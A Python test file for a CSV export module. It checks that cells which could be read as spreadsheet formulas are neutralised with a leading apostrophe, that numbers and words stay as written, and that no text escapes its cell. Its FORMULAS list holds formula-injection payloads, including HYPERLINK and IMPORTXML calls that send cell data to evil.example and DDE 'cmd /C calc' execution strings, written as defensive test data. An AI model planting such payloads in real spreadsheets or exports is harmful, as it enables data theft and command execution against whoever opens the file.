"""Cells for a spreadsheet: no text in them is evaluated, none breaks out of its cell, numbers stay numbers."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconcile.report.csvtables import csv_text, inert

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1;\"open\")",
    "=IMPORTXML(CONCAT(\"//evil.example/\",A2),\"//a\")",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1-1+DDE(\"soffice\";\"x\";1)",
    "-5 people",
    "-5-2",
    "-5%+1",
    "-1e5e5",
    "+$3*2",
    "+1 (555) 010-9999",
    "+",
    "--5",
    "@SUM(1+1)*2",
    "@5",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\tplain",
    "\nplain",
    "  =1+1",
    "\u00a0\u3000=1+1",
    "\ufeff=1+1",
    "\u200b-cmd",
    "\u202e+cmd",
    "\x0b@SUM(A1)",
    "＝1+1",
    "＋cmd",
    "－2+3",
    "＠SUM(A1)",
    "﹦1+1",
    "﹣٣",
    "-٣",
]  # fmt: skip
NUMBERS = ["-5", "+3", "-.5", "-1,234.50", "-1.234,5", "-1'000", "-1\u00a0234", "-1e5", "+1.5E-7"]
NUMBERS += ["+3%", "-$5", "+€1,000", "-5€"]
WORDS = ["plain", "3-1", "4.1 million", "$-5", "a=b", "x@y.example", "“=1+1”", "'=1", "−5", "–", "", " ", "\u200b"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_has_an_apostrophe(text):
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", [*NUMBERS, *WORDS])
def test_numbers_and_words_stay_as_written(text):
    assert inert(text) == text


@pytest.mark.parametrize("text", ["a\r=1+1", "a\n=1+1", "a\r\n=1+1", 'a",=1+1', '",=1+1,"', "a,=1+1", '"\r\n"=1'])
def test_no_text_leaves_its_cell(text):
    written = csv_text([["first", text, "last"], ["next"]])
    assert list(csv.reader(io.StringIO(written, newline=""))) == [["first", text, "last"], ["next"]]
    outside = "".join(written.split('"')[::2])
    assert outside.count("\n") == 2
    assert "\r" not in outside


@given(st.text(st.sampled_from("=+-@＝－\t\r\n\0 \u200b'\",;|!5.,e%$aA(")), st.text())
def test_a_cell_gives_its_text_back_and_begins_no_formula(head, rest):
    text = head + rest
    ((cell, last),) = csv.reader(io.StringIO(csv_text([[text, "end"]]), newline=""))
    assert last == "end"
    assert cell in (text, f"'{text}")
    if cell and cell[0] in "=+-@＝－\t\r\n\0":
        assert re.fullmatch(r"[+-][0-9.,'eE%‰$€£¥\u00a0\u202f]+([eE][+-][0-9]+)?[%‰€£¥]?", cell)
